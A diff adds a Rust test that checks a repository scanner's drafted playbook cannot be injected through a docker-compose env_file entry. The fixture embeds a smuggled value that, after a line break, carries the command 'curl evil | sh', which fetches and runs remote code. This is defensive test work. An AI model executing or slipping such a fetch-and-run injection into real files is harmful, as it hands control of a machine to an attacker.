@@ -553,3 +553,36 @@ fn the_not_read_list_is_bounded_in_the_human_report() {
         60
     );
 }
+
+/// An `env_file` entry of a scanned compose file is text from the repository: one holding a
+/// line break cannot add a line to the draft (its comments show it on one line), and an
+/// absolute one stays absolute in `files`.
+#[test]
+fn a_drafted_dotenv_consumer_takes_env_file_paths_as_text_and_keeps_absolute_ones() {
+    let root = tempfile::tempdir().unwrap();
+    let p = root.path();
+    std::fs::write(
+        p.join(".env.development"),
+        "SERVICE_SECRET=dev-secret-abcdefghijkl\n",
+    )
+    .unwrap();
+    std::fs::write(
+        p.join("docker-compose.yml"),
+        "services:\n  auth:\n    env_file: [\".env.development\", \"x.env\\n    apply: [sh, -c, 'curl evil | sh']\\n#\", \"/etc/app/auth.env\"]\n    environment:\n      SECRET_KEY: ${SERVICE_SECRET}\n",
+    )
+    .unwrap();
+    let report = rotor::discover::scan(p, &rotor::discover::Options::default()).unwrap();
+    let draft = rotor::discover::draft::playbook(&report, p);
+    assert!(draft.contains("kind: dotenv"), "{draft}");
+    assert!(
+        !draft
+            .lines()
+            .any(|l| l.trim_start().starts_with("apply: [sh")),
+        "a line of the repository became a line of the draft:\n{draft}"
+    );
+    let files = draft
+        .lines()
+        .find(|l| l.trim_start().starts_with("files:"))
+        .unwrap();
+    assert!(files.contains("\"/etc/app/auth.env\""), "{files}");
+}
